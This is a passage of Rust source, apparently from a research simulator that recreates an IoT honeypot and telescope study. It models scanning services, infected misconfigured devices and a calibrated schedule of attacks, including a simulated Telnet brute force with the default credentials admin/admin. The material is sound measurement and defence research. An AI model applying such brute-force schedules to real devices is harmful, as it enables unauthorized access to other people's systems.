        let dark = cfg.universe.dark_space();
        for actor in &plan.actors {
            for task in &actor.tasks {
                prop_assert!(task.at >= cfg.month_start && task.at < end);
                prop_assert!(
                    lab.contains(task.dst) || dark.contains(task.dst),
                    "task target {} is neither lab nor dark space",
                    task.dst
                );
            }
        }
    }

    /// The infected overlap structure always has "both" as the largest
    /// bucket and every infected index valid and distinct.
    #[test]
    fn infected_structure(seed in any::<u64>()) {
        let (_, plan) = build(seed, 6);
        let mut seen = BTreeSet::new();
        let (mut h, mut t, mut b) = (0u32, 0u32, 0u32);
        for inf in &plan.infected {
            prop_assert!(seen.insert(inf.record_idx), "record used twice");
            match (inf.hits_honeypots, inf.hits_telescope) {
                (true, true) => b += 1,
                (true, false) => h += 1,
                (false, true) => t += 1,
                (false, false) => prop_assert!(false, "infected device attacking nothing"),
            }
        }
        prop_assert!(b >= h && b >= t, "both={b} h={h} t={t}");
    }
}
