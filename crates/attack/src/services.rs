//! Scanning services — the benign-but-noisy recon actors of Fig. 3.
//!
//! The paper identifies ~20 known scanning services from reverse lookups of
//! honeypot traffic, with Shodan/Censys/Stretchoid/BinaryEdge dominating,
//! and observes that **listing by a scanning service precedes a surge of
//! malicious traffic** (Fig. 8: marked listing dates for Shodan, BinaryEdge
//! and ZoomEye, upward trend after). GreyNoise misses some of them — the
//! paper suspects Europe-limited rating platforms (§4.3.3).
//!
//! Each service owns a pool of source addresses and probes the honeypot lab
//! (plus the telescope's dark space — telescopes famously see every
//! scanner) on a fixed period. Listing services additionally publish a
//! listing date per honeypot, which the attack plan uses to intensify
//! post-listing malicious traffic.

use ofh_net::{SimDuration, SimTime};
use serde::Serialize;

/// A known scanning service (Fig. 3 slice).
///
/// Serialize-only: `name` is a `&'static str` into the fixed registry below,
/// which cannot be deserialized from owned data.
#[derive(Debug, Clone, Copy, PartialEq, Serialize)]
pub struct ScanningService {
    pub name: &'static str,
    /// Relative traffic weight (drives per-service source-IP counts).
    pub weight: u32,
    /// Days between full probe rounds.
    pub period_days: u64,
    /// Whether this service lists targets publicly (drives Fig. 8 surges).
    pub lists_targets: bool,
    /// Whether its scans are Europe-limited (GreyNoise blind spot, §4.3.3).
    pub europe_only: bool,
}

/// The service registry (names from §4.3.1; weights approximate Fig. 3's
/// ordering: Stretchoid and Censys lead, then Shodan, Bitsight, BinaryEdge…).
pub const SERVICES: &[ScanningService] = &[
    ScanningService { name: "Stretchoid.com", weight: 16, period_days: 1, lists_targets: false, europe_only: false },
    ScanningService { name: "Censys", weight: 15, period_days: 1, lists_targets: true, europe_only: false },
    ScanningService { name: "Shodan", weight: 13, period_days: 2, lists_targets: true, europe_only: false },
    ScanningService { name: "Bitsight", weight: 9, period_days: 2, lists_targets: false, europe_only: true },
    ScanningService { name: "BinaryEdge", weight: 8, period_days: 2, lists_targets: true, europe_only: false },
    ScanningService { name: "Project Sonar", weight: 7, period_days: 3, lists_targets: false, europe_only: false },
    ScanningService { name: "ShadowServer", weight: 6, period_days: 1, lists_targets: false, europe_only: false },
    ScanningService { name: "InterneTTL", weight: 4, period_days: 3, lists_targets: false, europe_only: false },
    ScanningService { name: "Alpha Strike Labs", weight: 4, period_days: 3, lists_targets: false, europe_only: true },
    ScanningService { name: "Sharashka", weight: 3, period_days: 4, lists_targets: false, europe_only: true },
    ScanningService { name: "RWTH Aachen University", weight: 3, period_days: 7, lists_targets: false, europe_only: true },
    ScanningService { name: "CriminalIP", weight: 3, period_days: 4, lists_targets: false, europe_only: false },
    ScanningService { name: "ipip.net", weight: 2, period_days: 5, lists_targets: false, europe_only: false },
    ScanningService { name: "Net Systems Research", weight: 2, period_days: 5, lists_targets: false, europe_only: false },
    ScanningService { name: "LeakIX", weight: 2, period_days: 4, lists_targets: false, europe_only: false },
    ScanningService { name: "ONYPHE", weight: 2, period_days: 4, lists_targets: false, europe_only: true },
    ScanningService { name: "Natlas", weight: 1, period_days: 7, lists_targets: false, europe_only: false },
    ScanningService { name: "Quadmetrics.com", weight: 1, period_days: 7, lists_targets: false, europe_only: true },
    ScanningService { name: "Arbor Observatory", weight: 1, period_days: 7, lists_targets: false, europe_only: false },
    ScanningService { name: "ZoomEye", weight: 3, period_days: 3, lists_targets: true, europe_only: false },
];

/// Fig. 8 listing dates (day index within April; day 0 = April 1).
/// Derived from the paper's marked listing events: Shodan listed the
/// honeypots early, BinaryEdge and ZoomEye mid-month.
pub fn listing_day(service: &ScanningService) -> Option<u64> {
    if !service.lists_targets {
        return None;
    }
    match service.name {
        "Shodan" => Some(4),
        "Censys" => Some(7),
        "BinaryEdge" => Some(11),
        "ZoomEye" => Some(15),
        _ => None,
    }
}

/// The instant (within the honeypot month starting at `month_start`) a
/// service's listing takes effect.
pub fn listing_time(service: &ScanningService, month_start: SimTime) -> Option<SimTime> {
    listing_day(service).map(|d| month_start + SimDuration::from_days(d))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn registry_has_the_papers_services() {
        assert!(SERVICES.len() >= 20);
        for name in ["Shodan", "Censys", "Stretchoid.com", "BinaryEdge", "RWTH Aachen University"] {
            assert!(SERVICES.iter().any(|s| s.name == name), "{name} missing");
        }
    }

    #[test]
    fn stretchoid_and_censys_lead() {
        let max = SERVICES.iter().map(|s| s.weight).max().unwrap();
        assert_eq!(
            SERVICES.iter().find(|s| s.weight == max).unwrap().name,
            "Stretchoid.com"
        );
    }

    #[test]
    fn listing_services_have_dates() {
        for s in SERVICES {
            if s.lists_targets {
                assert!(listing_day(s).is_some(), "{} lists but has no date", s.name);
            } else {
                assert!(listing_day(s).is_none());
            }
        }
        // Shodan lists first (Fig. 8's first marker).
        let shodan = SERVICES.iter().find(|s| s.name == "Shodan").unwrap();
        let be = SERVICES.iter().find(|s| s.name == "BinaryEdge").unwrap();
        assert!(listing_day(shodan).unwrap() < listing_day(be).unwrap());
    }

    #[test]
    fn europe_only_subset_exists() {
        // The GreyNoise comparison (Fig. 5) needs a blind spot to explain.
        assert!(SERVICES.iter().filter(|s| s.europe_only).count() >= 3);
    }

    #[test]
    fn listing_time_offsets() {
        let shodan = SERVICES.iter().find(|s| s.name == "Shodan").unwrap();
        let t = listing_time(shodan, SimTime::ZERO).unwrap();
        assert_eq!(t.day_index(), 4);
    }
}
