//! # ofh-attack — the threat-actor population
//!
//! Everything that *attacks* in the study: Mirai-style botnets brute-forcing
//! Telnet/SSH with the Table 12 dictionary and dropping hashed binaries
//! (Table 13), the twenty-odd benign scanning services of Fig. 3 (whose
//! listings drive the Fig. 8 attack increase), DoS flooders and reflection
//! attackers (§5.1.3), data poisoners (§5.1.2/§5.1.4), Eternal*-wielding SMB
//! exploiters (§5.1.5), Tor-relay web scrapers (§5.1.6), multistage
//! attackers (Fig. 9 / §5.4), and — the paper's headline — **infected
//! misconfigured IoT devices** that are simultaneously victims in the scan
//! dataset and attackers against the honeypots and telescope (§5.3).
//!
//! Architecture: one generic script-driven agent ([`driver::AttackerAgent`])
//! executes [`driver::AttackScript`]s against targets on a schedule; actor
//! categories are *plans* — schedules calibrated in [`plan`] so that
//! expected volumes match Table 7 at the configured scale. What the
//! honeypots/telescope actually record is measured, not scripted.
//!
//! **Time-compression targeting** (see DESIGN.md): a real Mirai bot probes
//! millions of addresses a day, so every bot finds every honeypot and
//! crosses the telescope many times. Simulated bots send orders of magnitude
//! fewer probes, so target selection is importance-weighted between the
//! honeypot lab, the telescope's dark space, and the general universe; the
//! weights substitute for probe volume, preserving who-hits-what.

pub mod driver;
pub mod infected;
pub mod plan;
pub mod services;

pub use driver::{AttackScript, AttackerAgent, Task};
pub use infected::InfectedDevice;
pub use plan::{AttackPlan, PlanConfig};
pub use services::{ScanningService, SERVICES};
