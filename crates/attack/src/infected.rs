//! Infected devices — victim and attacker in one host.
//!
//! The paper's headline (§5.3): 11,118 of the misconfigured devices found by
//! the scan *themselves attacked* the honeypots and the telescope. An
//! [`InfectedDevice`] composes a device endpoint (so the scan still finds
//! and classifies it as a misconfigured device) with an attacker schedule
//! (so the honeypots and telescope record it as an attack source). The join
//! in `ofh-analysis` then rediscovers the overlap from measurements alone.

use ofh_net::Payload;
use ofh_net::{Agent, ConnToken, NetCtx, SockAddr, TcpDecision};
use std::collections::HashSet;

use crate::driver::{AttackerAgent, Task};

/// A device agent that also runs an attack schedule.
pub struct InfectedDevice {
    /// The device-side behaviour (what the scanner talks to).
    inner: Box<dyn Agent>,
    /// The bot-side behaviour (what the honeypots/telescope see).
    bot: AttackerAgent,
    /// Connections initiated by the bot (events for these route to `bot`;
    /// all inbound connections route to `inner`).
    bot_conns: HashSet<ConnToken>,
}

impl InfectedDevice {
    pub fn new(inner: Box<dyn Agent>, tasks: Vec<Task>) -> InfectedDevice {
        InfectedDevice {
            inner,
            bot: AttackerAgent::new(tasks),
            bot_conns: HashSet::new(),
        }
    }

    /// Bot diagnostics.
    pub fn bot(&self) -> &AttackerAgent {
        &self.bot
    }
}

impl Agent for InfectedDevice {
    fn on_boot(&mut self, ctx: &mut NetCtx<'_>) {
        self.inner.on_boot(ctx);
        // The bot schedules its tasks as timers; conn tracking below keys on
        // connections it creates during those timer callbacks.
        self.bot.on_boot(ctx);
    }

    fn on_tcp_open(
        &mut self,
        ctx: &mut NetCtx<'_>,
        conn: ConnToken,
        local_port: u16,
        peer: SockAddr,
    ) -> TcpDecision {
        // Inbound connections always belong to the device side.
        self.inner.on_tcp_open(ctx, conn, local_port, peer)
    }

    fn on_tcp_established(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken) {
        if self.bot_conns.contains(&conn) {
            self.bot.on_tcp_established(ctx, conn);
        } else {
            self.inner.on_tcp_established(ctx, conn);
        }
    }

    fn on_tcp_refused(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken) {
        if self.bot_conns.remove(&conn) {
            self.bot.on_tcp_refused(ctx, conn);
        } else {
            self.inner.on_tcp_refused(ctx, conn);
        }
    }

    fn on_tcp_timeout(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken) {
        if self.bot_conns.remove(&conn) {
            self.bot.on_tcp_timeout(ctx, conn);
        } else {
            self.inner.on_tcp_timeout(ctx, conn);
        }
    }

    fn on_tcp_data(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken, data: &Payload) {
        if self.bot_conns.contains(&conn) {
            self.bot.on_tcp_data(ctx, conn, data);
        } else {
            self.inner.on_tcp_data(ctx, conn, data);
        }
    }

    fn on_tcp_closed(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken) {
        if self.bot_conns.remove(&conn) {
            self.bot.on_tcp_closed(ctx, conn);
        } else {
            self.inner.on_tcp_closed(ctx, conn);
        }
    }

    fn on_udp(&mut self, ctx: &mut NetCtx<'_>, local_port: u16, peer: SockAddr, payload: &Payload) {
        // Bot-side UDP uses high source ports (43xxx); the device serves its
        // protocol port. Replies to bot probes arrive at the bot's ports.
        if (43_000..43_100).contains(&local_port) {
            self.bot.on_udp(ctx, local_port, peer, payload);
        } else {
            self.inner.on_udp(ctx, local_port, peer, payload);
        }
    }

    fn on_timer(&mut self, ctx: &mut NetCtx<'_>, token: u64) {
        // All timers belong to the bot (device endpoints are reactive).
        // Capture the connections the bot opens during the callback so later
        // lifecycle events route to the bot side.
        ctx.begin_conn_capture();
        self.bot.on_timer(ctx, token);
        for conn in ctx.end_conn_capture() {
            self.bot_conns.insert(conn);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::driver::AttackScript;
    use ofh_devices::endpoints::TelnetDevice;
    use ofh_devices::Misconfig;
    use ofh_honeypots::{CowrieHoneypot, EventKind};
    use ofh_net::{ip, SimNet, SimNetConfig, SimTime};

    #[test]
    fn infected_device_is_both_victim_and_attacker() {
        let mut net = SimNet::new(SimNetConfig::default());
        let dev_addr = ip(16, 50, 0, 1);
        let hp_addr = ip(16, 1, 0, 10);

        let device = TelnetDevice::new("PK5001Z login:", Some(Misconfig::TelnetNoAuthRoot), 23);
        let tasks = vec![Task {
            at: SimTime(5_000),
            dst: hp_addr,
            script: AttackScript::TelnetBruteForce {
                port: 23,
                credentials: vec![("admin".into(), "admin".into())],
                dropper: None,
            },
        }];
        net.attach(dev_addr, Box::new(InfectedDevice::new(Box::new(device), tasks)));
        let hid = net.attach(hp_addr, Box::new(CowrieHoneypot::new()));

        // A scanner-style probe to the device still sees its banner.
        struct Probe {
            dst: SockAddr,
            banner: Vec<u8>,
        }
        impl Agent for Probe {
            fn on_boot(&mut self, ctx: &mut NetCtx<'_>) {
                ctx.tcp_connect(self.dst);
            }
            fn on_tcp_data(&mut self, _c: &mut NetCtx<'_>, _conn: ConnToken, data: &Payload) {
                self.banner.extend_from_slice(data);
            }
        }
        let pid = net.attach(
            ip(16, 3, 0, 2),
            Box::new(Probe {
                dst: SockAddr::new(dev_addr, 23),
                banner: Vec::new(),
            }),
        );
        net.run_until(SimTime(300_000));

        // Victim role: banner served.
        let banner = net.agent_downcast::<Probe>(pid).unwrap().banner.clone();
        let text = String::from_utf8_lossy(&ofh_wire::telnet::visible_text(&banner)).into_owned();
        assert!(text.contains("PK5001Z"));
        assert!(text.contains("root@"));

        // Attacker role: the honeypot logged this device's address.
        let h = net.agent_downcast::<CowrieHoneypot>(hid).unwrap();
        assert!(h
            .log
            .events
            .iter()
            .any(|e| e.src == dev_addr
                && matches!(e.kind, EventKind::LoginAttempt { .. } | EventKind::Connection)));
    }
}
