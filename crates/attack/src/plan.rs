//! The attack plan: who attacks what, when, and how.
//!
//! Calibration philosophy (same as the population builder): the paper's
//! published *marginals* are inputs — Table 7's per-honeypot/protocol event
//! volumes and unique-source splits, Fig. 8's listing dates and DoS days,
//! §5.3's infected-device counts and their honeypot/telescope overlap
//! structure — and everything downstream is *measured* from the traffic the
//! plan's actors actually emit. Yields per script are estimates, so measured
//! volumes land near (not exactly on) the targets; EXPERIMENTS.md records
//! the deviation.

use std::collections::BTreeMap;
use std::net::Ipv4Addr;

use ofh_devices::credentials::dictionary_for;
use ofh_devices::population::Population;
use ofh_devices::Universe;
use ofh_intel::{MalwareFamily, MalwareSample};
use ofh_net::rng::rng_for;
use ofh_net::{SimDuration, SimTime};
use ofh_wire::Protocol;
use rand::rngs::StdRng;
use rand::seq::SliceRandom;
use rand::Rng;

use crate::driver::{AttackScript, Task};
use crate::services::{listing_day, SERVICES};

/// Table 7's event volumes: (honeypot, protocol, #attack events).
pub const TABLE7_VOLUMES: &[(&str, Protocol, u64)] = &[
    ("HosTaGe", Protocol::Telnet, 19_733),
    ("HosTaGe", Protocol::Mqtt, 2_511),
    ("HosTaGe", Protocol::Amqp, 2_780),
    ("HosTaGe", Protocol::Coap, 11_543),
    ("HosTaGe", Protocol::Ssh, 19_174),
    ("HosTaGe", Protocol::Http, 16_192),
    ("HosTaGe", Protocol::Smb, 1_830),
    ("U-Pot", Protocol::Upnp, 17_101),
    ("Conpot", Protocol::Ssh, 12_837),
    ("Conpot", Protocol::Telnet, 12_377),
    ("Conpot", Protocol::S7, 7_113),
    ("Conpot", Protocol::Http, 11_313),
    ("ThingPot", Protocol::Xmpp, 11_344),
    ("Cowrie", Protocol::Ssh, 15_459),
    ("Cowrie", Protocol::Telnet, 14_963),
    ("Dionaea", Protocol::Http, 11_974),
    ("Dionaea", Protocol::Mqtt, 1_557),
    ("Dionaea", Protocol::Ftp, 3_565),
    ("Dionaea", Protocol::Smb, 6_873),
];

/// §5.3: misconfigured devices that attacked (the headline 11,118) and
/// their overlap structure (footnote 2).
pub const PAPER_INFECTED: u64 = 11_118;
pub const PAPER_INFECTED_HONEYPOT_ONLY: u64 = 1_147;
pub const PAPER_INFECTED_TELESCOPE_ONLY: u64 = 1_274;
/// §5.3: additional IoT attackers identified via Censys (and their split).
pub const PAPER_CENSYS_EXTRA: u64 = 1_671;
/// §5.3: registered domains among attack sources; with webpages; flagged.
pub const PAPER_DOMAINS: u64 = 797;
pub const PAPER_DOMAINS_WEBPAGE: u64 = 427;
pub const PAPER_DOMAINS_MALICIOUS: u64 = 346;
/// §5.1.6: unique Tor-relay sources.
pub const PAPER_TOR_RELAYS: u64 = 151;
/// §5.4: multistage attacks detected.
pub const PAPER_MULTISTAGE: u64 = 267;
/// Table 7 footer: unique scanning-service source IPs.
pub const PAPER_SERVICE_IPS: u64 = 10_696;
/// Table 7 footer: unique malicious / unknown source IPs.
pub const PAPER_MALICIOUS_IPS: u64 = 69_690;
pub const PAPER_UNKNOWN_IPS: u64 = 9_779;
/// Fig. 8: the two major-DoS days (April 24 and 26; day 0 = April 1).
pub const DOS_DAYS: [u64; 2] = [23, 25];

/// Deployed honeypot addresses (one per Fig. 1 group).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct HoneypotSet {
    pub hostage: Ipv4Addr,
    pub upot: Ipv4Addr,
    pub conpot: Ipv4Addr,
    pub thingpot: Ipv4Addr,
    pub cowrie: Ipv4Addr,
    pub dionaea: Ipv4Addr,
}

impl HoneypotSet {
    /// Place the six honeypots in the universe's lab subnet.
    pub fn in_lab(universe: &Universe) -> HoneypotSet {
        let lab = universe.honeypot_lab();
        let base = u32::from(lab.first());
        HoneypotSet {
            hostage: Ipv4Addr::from(base + 1),
            upot: Ipv4Addr::from(base + 2),
            conpot: Ipv4Addr::from(base + 3),
            thingpot: Ipv4Addr::from(base + 4),
            cowrie: Ipv4Addr::from(base + 5),
            dionaea: Ipv4Addr::from(base + 6),
        }
    }

    pub fn addr_of(&self, honeypot: &str) -> Ipv4Addr {
        match honeypot {
            "HosTaGe" => self.hostage,
            "U-Pot" => self.upot,
            "Conpot" => self.conpot,
            "ThingPot" => self.thingpot,
            "Cowrie" => self.cowrie,
            "Dionaea" => self.dionaea,
            other => panic!("unknown honeypot {other}"),
        }
    }

    pub fn all(&self) -> [Ipv4Addr; 6] {
        [
            self.hostage,
            self.upot,
            self.conpot,
            self.thingpot,
            self.cowrie,
            self.dionaea,
        ]
    }
}

/// Plan configuration.
#[derive(Debug, Clone)]
pub struct PlanConfig {
    pub seed: u64,
    /// Divide Table 7 volumes and source counts by this.
    pub hp_scale: u64,
    /// Divide §5.3 infected-device counts by this (ties to the scan scale).
    pub infected_scale: u64,
    pub universe: Universe,
    /// Honeypot month start (April 1) and length in days.
    pub month_start: SimTime,
    pub month_days: u64,
    pub honeypots: HoneypotSet,
}

impl PlanConfig {
    fn scaled(&self, n: u64, scale: u64) -> u64 {
        if n == 0 {
            0
        } else {
            ((n + scale / 2) / scale).max(1)
        }
    }
}

/// What kind of source an actor is (ground truth for oracles and tests).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ActorCategory {
    ScanningService(&'static str),
    /// Suspicious one-off scanners (Table 7 "Unknown" column).
    UnknownScanner,
    /// Dedicated malicious hosts (bots on servers, DoS boxes…).
    Malicious,
    /// Tor exit relay scraping HTTP.
    TorRelay,
    /// Malicious host with a registered domain (§5.3).
    DomainHost { domain: String, webpage: bool },
    /// Multistage attacker (Fig. 9).
    Multistage,
}

/// One planned standalone actor (infected devices are handled separately —
/// they wrap existing device records).
#[derive(Debug, Clone)]
pub struct PlannedActor {
    pub addr: Ipv4Addr,
    pub category: ActorCategory,
    pub tasks: Vec<Task>,
}

/// Task schedules for infected members of the device population.
#[derive(Debug, Clone)]
pub struct InfectedPlan {
    /// Index into the population's records.
    pub record_idx: usize,
    pub tasks: Vec<Task>,
    /// Ground truth for tests: does this schedule target honeypots /
    /// telescope space?
    pub hits_honeypots: bool,
    pub hits_telescope: bool,
}

/// The complete attack plan.
pub struct AttackPlan {
    pub actors: Vec<PlannedActor>,
    /// Infected misconfigured devices (§5.3 headline set).
    pub infected: Vec<InfectedPlan>,
    /// Infected weak-credential devices (the Censys-extension set: not
    /// misconfigured on scanned protocols, so the scan join misses them).
    pub censys_extra: Vec<InfectedPlan>,
    /// Listing events for Fig. 8 annotations: (service name, time).
    pub listings: Vec<(&'static str, SimTime)>,
}

impl AttackPlan {
    /// Build the plan over a generated device population.
    pub fn build(cfg: &PlanConfig, population: &Population) -> AttackPlan {
        let mut rng = rng_for(cfg.seed, "attack-plan");
        let mut plan = AttackPlan {
            actors: Vec::new(),
            infected: Vec::new(),
            censys_extra: Vec::new(),
            listings: SERVICES
                .iter()
                .filter_map(|s| listing_day(s).map(|d| (s.name, cfg.month_start + SimDuration::from_days(d))))
                .collect(),
        };
        let mut addr_pool = AttackerAddrPool::new(cfg.universe);

        plan.build_services(cfg, &mut rng, &mut addr_pool);
        plan.build_infected(cfg, population, &mut rng);
        let mut malicious_sources = plan.build_malicious_pool(cfg, &mut rng, &mut addr_pool);
        plan.build_row_traffic(cfg, &mut rng, &mut malicious_sources);
        plan.build_unknown_scanners(cfg, &mut rng, &mut addr_pool);
        plan.build_telescope_background(cfg, &mut rng, &mut addr_pool);
        plan.build_tor(cfg, &mut rng, &mut addr_pool);
        plan.build_dos(cfg, &mut rng, &mut addr_pool);
        plan.build_multistage(cfg, &mut rng, &mut addr_pool);
        plan.actors.extend(malicious_sources);
        plan
    }

    /// Scanning services: each source IP probes the lab periodically and
    /// sweeps a slice of the telescope's dark space.
    fn build_services(&mut self, cfg: &PlanConfig, rng: &mut StdRng, pool: &mut AttackerAddrPool) {
        let total_ips = cfg.scaled(PAPER_SERVICE_IPS, cfg.hp_scale);
        let weight_sum: u32 = SERVICES.iter().map(|s| s.weight).sum();
        for service in SERVICES {
            let n_ips =
                ((total_ips as f64 * service.weight as f64 / weight_sum as f64).round() as u64).max(1);
            for _ in 0..n_ips {
                let addr = pool.next();
                let mut tasks = Vec::new();
                // Each scanner IP owns a fixed pair of probe surfaces for
                // the whole month (real fleet IPs divide the port space):
                // only a slice of every service's fleet touches any one
                // honeypot, reproducing Table 7's scanning-unique counts
                // being a fraction of the 10,696 total.
                let surfaces = [service_probe(cfg, rng), service_probe(cfg, rng)];
                let mut day = rng.gen_range(0..service.period_days.min(cfg.month_days));
                while day < cfg.month_days {
                    let at = cfg.month_start
                        + SimDuration::from_days(day)
                        + SimDuration::from_secs(rng.gen_range(0..86_400));
                    let (dst, script) = surfaces[rng.gen_range(0..2usize)].clone();
                    tasks.push(Task { at, dst, script });
                    // And cross the telescope (every scanner does).
                    tasks.push(Task {
                        at: at + SimDuration::from_secs(rng.gen_range(1..3_600)),
                        dst: dark_addr(cfg, rng),
                        script: AttackScript::SynProbe { port: 23 },
                    });
                    day += service.period_days;
                }
                self.actors.push(PlannedActor {
                    addr,
                    category: ActorCategory::ScanningService(service.name),
                    tasks,
                });
            }
        }
    }

    /// The §5.3 infected misconfigured devices, with the paper's
    /// honeypot-only / telescope-only / both overlap structure.
    fn build_infected(&mut self, cfg: &PlanConfig, population: &Population, rng: &mut StdRng) {
        let infectable: Vec<usize> = population
            .records
            .iter()
            .enumerate()
            .filter(|(_, r)| r.misconfig.is_some_and(|m| m.is_infectable()))
            .map(|(i, _)| i)
            .collect();
        let n_total = cfg.scaled(PAPER_INFECTED, cfg.infected_scale) as usize;
        let n_h_only = cfg.scaled(PAPER_INFECTED_HONEYPOT_ONLY, cfg.infected_scale) as usize;
        let n_t_only = cfg.scaled(PAPER_INFECTED_TELESCOPE_ONLY, cfg.infected_scale) as usize;
        let mut chosen = infectable;
        chosen.shuffle(rng);
        chosen.truncate(n_total);
        for (i, record_idx) in chosen.into_iter().enumerate() {
            let (hits_honeypots, hits_telescope) = if i < n_h_only {
                (true, false)
            } else if i < n_h_only + n_t_only {
                (false, true)
            } else {
                (true, true)
            };
            let tasks = bot_schedule(cfg, rng, hits_honeypots, hits_telescope, i as u64);
            self.infected.push(InfectedPlan {
                record_idx,
                tasks,
                hits_honeypots,
                hits_telescope,
            });
        }

        // Censys-extension set: weak-credential (configured!) devices that
        // got infected via their default credentials — invisible to the
        // misconfiguration join, visible to Censys' IoT tags.
        let weak: Vec<usize> = population
            .records
            .iter()
            .enumerate()
            .filter(|(_, r)| r.default_creds.is_some() && r.misconfig.is_none())
            .map(|(i, _)| i)
            .collect();
        let n_extra = cfg.scaled(PAPER_CENSYS_EXTRA, cfg.infected_scale) as usize;
        // §5.3 footnote 3: 439 honeypot-only, 564 telescope-only, 668 both.
        let e_h = cfg.scaled(439, cfg.infected_scale) as usize;
        let e_t = cfg.scaled(564, cfg.infected_scale) as usize;
        let mut weak = weak;
        weak.shuffle(rng);
        weak.truncate(n_extra);
        for (i, record_idx) in weak.into_iter().enumerate() {
            let (hits_honeypots, hits_telescope) = if i < e_h {
                (true, false)
            } else if i < e_h + e_t {
                (false, true)
            } else {
                (true, true)
            };
            let tasks = bot_schedule(cfg, rng, hits_honeypots, hits_telescope, 50_000 + i as u64);
            self.censys_extra.push(InfectedPlan {
                record_idx,
                tasks,
                hits_honeypots,
                hits_telescope,
            });
        }
    }

    /// Dedicated malicious hosts (empty task lists; `build_row_traffic`
    /// fills them).
    fn build_malicious_pool(
        &mut self,
        cfg: &PlanConfig,
        _rng: &mut StdRng,
        pool: &mut AttackerAddrPool,
    ) -> Vec<PlannedActor> {
        let n = cfg.scaled(PAPER_MALICIOUS_IPS, cfg.hp_scale).max(8);
        (0..n)
            .map(|_| PlannedActor {
                addr: pool.next(),
                category: ActorCategory::Malicious,
                tasks: Vec::new(),
            })
            .collect()
    }

    /// Fill each Table 7 row with malicious traffic up to its scaled volume.
    ///
    /// Sources are **partitioned across rows** (proportional to row volume):
    /// a generic malicious host hammers one honeypot surface, so Fig. 9's
    /// multistage statistics are driven by the dedicated multistage actors,
    /// not by incidental task mixing.
    fn build_row_traffic(
        &mut self,
        cfg: &PlanConfig,
        rng: &mut StdRng,
        sources: &mut [PlannedActor],
    ) {
        let total_volume: u64 = TABLE7_VOLUMES.iter().map(|&(_, _, v)| v).sum();
        let mut next_source = 0usize;
        for &(honeypot, protocol, volume) in TABLE7_VOLUMES {
            let target_events = cfg.scaled(volume, cfg.hp_scale);
            let dst = cfg.honeypots.addr_of(honeypot);
            // This row's disjoint slice of the source pool (wrapping is
            // impossible: shares sum to <= pool size by construction).
            let slice_start = next_source.min(sources.len() - 1);
            let slice_len = ((sources.len() as u64 * volume / total_volume).max(1) as usize)
                .min(sources.len() - slice_start)
                .max(1);
            next_source = slice_start + slice_len;
            let mut emitted = 0u64;
            while emitted < target_events {
                let (script, yield_est) = malicious_script(cfg, protocol, rng);
                let at = attack_time(cfg, rng);
                let src = slice_start + rng.gen_range(0..slice_len);
                sources[src].tasks.push(Task { at, dst, script });
                emitted += yield_est;
                // Malicious sources also cross the telescope — with Telnet
                // worm probes, whatever they attack honeypots with (the
                // telescope's protocol mix is dominated by Telnet scanning
                // worms, Table 8).
                if rng.gen_bool(0.35) {
                    sources[src].tasks.push(Task {
                        at: at + SimDuration::from_secs(rng.gen_range(60..7_200)),
                        dst: dark_addr(cfg, rng),
                        script: telescope_probe(Protocol::Telnet),
                    });
                }
            }
        }
    }

    /// Background Internet radiation into the telescope, calibrated to
    /// Table 8's per-protocol daily counts and unique-source counts: the
    /// worm-driven Telnet roar that dwarfs everything (2.5B/day from 85.6M
    /// sources in the paper) down to XMPP's trickle.
    fn build_telescope_background(
        &mut self,
        cfg: &PlanConfig,
        rng: &mut StdRng,
        pool: &mut AttackerAddrPool,
    ) {
        /// (protocol, paper daily count, paper unique sources) — Table 8.
        const TABLE8: &[(Protocol, u64, u64)] = &[
            (Protocol::Telnet, 2_554_585_920, 85_615_200),
            (Protocol::Upnp, 131_794_560, 18_633),
            (Protocol::Coap, 68_353_920, 2_342),
            (Protocol::Mqtt, 17_072_640, 5_572),
            (Protocol::Amqp, 13_907_520, 7_132),
            (Protocol::Xmpp, 6_429_600, 4_255),
        ];
        // Telescope volumes sit ~5 orders of magnitude above honeypot event
        // volumes; scale them accordingly so runtimes stay bounded while
        // both orderings (counts and uniques) survive.
        let count_scale = cfg.hp_scale.saturating_mul(1_000_000);
        let unique_scale = cfg.hp_scale.saturating_mul(32);
        for &(protocol, daily, unique) in TABLE8 {
            let probes = ((daily * cfg.month_days) / count_scale).max(4);
            // Cap per-protocol sources at an eighth of the remaining pool so
            // small universes never exhaust their attacker space; the probe
            // volume is preserved by raising per-source activity instead.
            let cap = (pool.remaining() / 8).max(2);
            let sources = ((unique / unique_scale).max(2)).min(probes).min(cap) as usize;
            let per_source = (probes / sources as u64).max(1);
            for _ in 0..sources {
                let addr = pool.next();
                let tasks: Vec<Task> = (0..per_source)
                    .map(|_| Task {
                        at: attack_time(cfg, rng),
                        dst: dark_addr(cfg, rng),
                        script: telescope_probe(protocol),
                    })
                    .collect();
                self.actors.push(PlannedActor {
                    addr,
                    category: ActorCategory::Malicious,
                    tasks,
                });
            }
        }
    }

    /// One-off suspicious scanners (Table 7 "Unknown" column).
    fn build_unknown_scanners(
        &mut self,
        cfg: &PlanConfig,
        rng: &mut StdRng,
        pool: &mut AttackerAddrPool,
    ) {
        let n = cfg.scaled(PAPER_UNKNOWN_IPS, cfg.hp_scale);
        for _ in 0..n {
            let addr = pool.next();
            let (dst, script) = service_probe(cfg, rng);
            let tasks = vec![Task {
                at: attack_time(cfg, rng),
                dst,
                script,
            }];
            self.actors.push(PlannedActor {
                addr,
                category: ActorCategory::UnknownScanner,
                tasks,
            });
        }
    }

    /// Tor-relay HTTP scrapers: a daily recurring GET pattern (§5.1.6).
    fn build_tor(&mut self, cfg: &PlanConfig, rng: &mut StdRng, pool: &mut AttackerAddrPool) {
        let n = cfg.scaled(PAPER_TOR_RELAYS, cfg.hp_scale);
        let http_targets = [cfg.honeypots.hostage, cfg.honeypots.conpot, cfg.honeypots.dionaea];
        for _ in 0..n {
            let addr = pool.next();
            let mut tasks = Vec::new();
            let start_day = rng.gen_range(0..5);
            for day in start_day..cfg.month_days {
                tasks.push(Task {
                    at: cfg.month_start
                        + SimDuration::from_days(day)
                        + SimDuration::from_secs(rng.gen_range(0..86_400)),
